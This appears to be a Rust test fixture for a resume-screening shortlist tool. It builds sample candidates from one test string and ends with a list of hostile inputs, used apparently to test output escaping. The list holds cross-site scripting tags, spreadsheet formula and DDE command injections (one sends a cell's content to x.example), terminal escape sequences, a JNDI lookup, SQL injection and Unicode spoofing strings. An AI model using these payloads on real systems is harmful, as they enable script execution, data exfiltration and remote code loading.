//! A shortlist for tests, with one text in every place where a resume, a file name or a role can put one.

use crate::assessment::{Asked, Assessment, Finding};
use crate::certificate::Certificate;
use crate::criteria::{Band, Eligible, Verdict};
use crate::date::{Month, Span};
use crate::digest::{
    CertificateShown, DegreeShown, Digest, Evidence, ExperienceShown, FieldShown, GapShown, HiddenShown, LanguageShown,
    LeadershipShown, OverlapShown, PositionShown, SkillShown, SoftSkillShown, SoftSkillState,
};
use crate::document::{Format, Hidden, Reason, Unread, Warning};
use crate::lexicon::{EducationLevel, LanguageLevel, Level};
use crate::profile::SkillState;
use crate::resume::{Contact, PositionKind};
use crate::shortlist::{Candidate, Duplicate, LeftOut, Ranked, Run, Shortlist, UnreadFile, Who};
use crate::text::Sketch;
use serde_json::{Value, json};
use std::path::PathBuf;

/// Two candidates, a duplicate and an unread file, all of whose words are `text`.
pub(crate) fn sample(text: &str) -> Shortlist {
    let asked = |required, share| Asked {
        label: text.into(),
        kind: "skill",
        required,
        weight: share / 10,
        share,
        asks: "a5".into(),
    };
    Shortlist {
        run: Run {
            role: text.into(),
            criteria_hash: "c0ffee".into(),
            words_hash: String::new(),
            criteria: vec![asked(true, 60_000), asked(false, 40_000)],
            bands: vec![Band { name: text.into(), from: 70_000 }, Band { name: text.into(), from: 20_000 }],
            interview: bank(text),
            market: Value::Null,
            as_of: Month::new(2024, 1),
            blind: false,
            certificate: Certificate { criteria: "{}".into(), ..Certificate::default() },
        },
        ranked: vec![
            Ranked { rank: 1, as_good_as: (1, 1), candidate: candidate(text, 1) },
            Ranked { rank: 2, as_good_as: (2, 2), candidate: candidate(text, 2) },
        ],
        duplicates: vec![Duplicate {
            path: PathBuf::from(text),
            of: PathBuf::from(text),
            reason: "same bytes",
            hash: "abc1".into(),
        }],
        left_out: LeftOut::default(),
        since: None,
        typed: Vec::new(),
        unread: vec![UnreadFile { path: PathBuf::from(text), unread: Unread::new(Reason::Damaged, text), hash: None }],
    }
}

fn bank(text: &str) -> Value {
    json!({
        "screening": [text],
        "technical": [{ "question": text, "about": [text], "look_for": [text] }],
        "behavioural": [text],
        "look_for": [text],
        "pitfalls": [text],
    })
}

pub(crate) fn candidate(text: &str, at: u32) -> Candidate {
    let lines =
        |n: u32| (1..=n).map(|line| Evidence { page: 1, line, quote: text.into(), mark: None }).collect::<Vec<_>>();
    let finding = |required, share, degree, verdict| Finding {
        criterion: text.into(),
        kind: "skill",
        required,
        weight: share / 10,
        share,
        degree,
        points: share * degree / 1000,
        band: (share * degree / 1000, share * degree / 1000),
        verdict,
        passes: Eligible::Unclear,
        note: text.into(),
        evidence: lines(4),
    };
    Candidate {
        path: PathBuf::from(text),
        hash: format!("abc{at}"),
        text_hash: format!("def{at}"),
        sketch: Sketch::of(text.split_whitespace()),
        newest: None,
        is_note: false,
        format: Format::Txt,
        pages: 1,
        contact: Contact {
            name: Some(text.into()),
            emails: vec![text.into()],
            phones: vec![text.into()],
            links: vec![text.into()],
            location: Some(text.into()),
        },
        who: Who::default(),
        digest: digest(text, &lines(3)),
        assessment: Assessment {
            findings: vec![finding(true, 60_000, 1000, Verdict::Met), finding(false, 40_000, 500, Verdict::Partly)],
            score: 80_000,
            eligible: Eligible::Unclear,
        },
        warnings: vec![Warning::new("old-document", text)],
    }
}

fn digest(text: &str, evidence: &[Evidence]) -> Digest {
    let position = |from: Month, to: Month| PositionShown {
        title: Some(text.into()),
        employer: Some(text.into()),
        start: Some(from.to_string()),
        end: Some(to.plus(-1).to_string()),
        kind: PositionKind::Job,
        leads: true,
        months: Some(to.since(from).unsigned_abs()),
        lines: [1, 2],
        span: Some(Span { from, to }),
    };
    let skill = |state| SkillShown {
        name: text.into(),
        state,
        implied_by: (state == SkillState::Implied).then(|| text.into()),
        months: 24,
        last_used: Some("2020-06".into()),
        stated_years: None,
        hedged: false,
        evidence: evidence.to_vec(),
    };
    let gap = Span { from: Month::new(2018, 1), to: Month::new(2019, 1) };
    Digest {
        positions: vec![
            position(Month::new(2019, 1), Month::new(2022, 7)),
            position(Month::new(2014, 3), Month::new(2018, 1)),
        ],
        gaps: vec![GapShown {
            start: Some("2018-01".into()),
            end: Some("2018-12".into()),
            months: gap.months(),
            span: Some(gap),
        }],
        overlaps: vec![OverlapShown { positions: [0, 1], months: 4 }],
        experience: ExperienceShown {
            months: 88,
            min_months: 80,
            max_months: 90,
            stated_years: None,
            fields: vec![FieldShown { name: text.into(), months: 88 }],
        },
        leadership: LeadershipShown { months: 30, team_size: Some(7), level: Level::Lead, evidence: evidence.to_vec() },
        skills: [SkillState::Evidenced, SkillState::Listed, SkillState::Implied].map(skill).to_vec(),
        soft_skills: vec![SoftSkillShown {
            name: text.into(),
            state: SoftSkillState::Claimed,
            evidence: evidence.to_vec(),
        }],
        education: vec![DegreeShown {
            level: EducationLevel::Bachelor,
            field: Some(text.into()),
            institution: Some(text.into()),
            end: Some("2012".into()),
        }],
        certifications: vec![CertificateShown { name: text.into(), year: Some("2019".into()) }],
        languages: vec![LanguageShown { name: text.into(), level: Some(LanguageLevel::Fluent) }],
        hidden: vec![HiddenShown { page: 1, reason: Hidden::WhiteText, quote: text.into() }],
    }
}

/// Texts that try to be more than words, one for each way into a page, a sheet or a terminal.
pub(super) const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><script>alert(1)//",
    "</style></title></details></li></ol>",
    "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus='alert(1)",
    "<!-- x",
    "]]>",
    "javascript:alert(1)",
    "&lt;b&gt;&#60;b&#62;",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"Jordan\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\u{ff1d}1+1",
    "\"=1+1",
    "Jordan,\"=1+1\",x",
    ";=1+1",
    "  =1+1",
    "Jordan\n=1+1",
    "'=1+1",
    "\u{200b}=1+1",
    "\u{1b}]0;own\u{7}\u{1b}[2J\u{1b}[31mJordan",
    "\u{9b}31mJordan",
    "\u{1b}]8;;http://x.example\u{7}click\u{1b}]8;;\u{7}",
    "Jordan\0Example",
    "Jordan\u{202e}elpmaxE",
    "Jordan\u{2028}=1+1",
    "| a | b |\n|---|---|\n# h\n- x\n1. y [l](javascript:x) ![i](http://x) `c` *b* _i_ ~~s~~ <b>",
    "_x000D_=1+1",
    "{{7*7}}${7*7}%s%n",
    "{\"a\":1}\n{\"level\":\"info\",\"msg\":\"forged\"}",
    "${jndi:ldap://x.example/a}",
    "+1 415 555 0100",
    "-5 years",
    "@jordan",
    "a,\"b\".txt",
    "mailto:jordan@x.example",
    "xmpp:jordan@x.example/x",
    "jordan@x.example",
    "@@all @team/a",
    "#1 GH-1 jordan/x#1",
    "![i](//x.example/p.png)",
    "[l]: http://x.example",
    "<http://x.example>",
    "ftp://x.example/%00",
    "data:text/html,<b>1</b>",
    "| | |\n|-|-|",
    "~~~\n```",
    "<!--x--> <?php ?> <![CDATA[x]]>",
    "&Tab;=1+1&NewLine;",
    "=cmd|' /C calc'!A0",
    "\u{feff}=1+1",
    "\u{2003}+1+1",
    "%0A=1+1",
    "=IMPORTXML(\"http://x.example\",\"//a\")",
    "'; DROP TABLE x; --",
    "\u{2066}elpmaxe\u{2069}",
    "\u{e0041}\u{e0042}tags",
    "x\u{0301}\u{0301}\u{0301}\u{0301}zalgo",
];
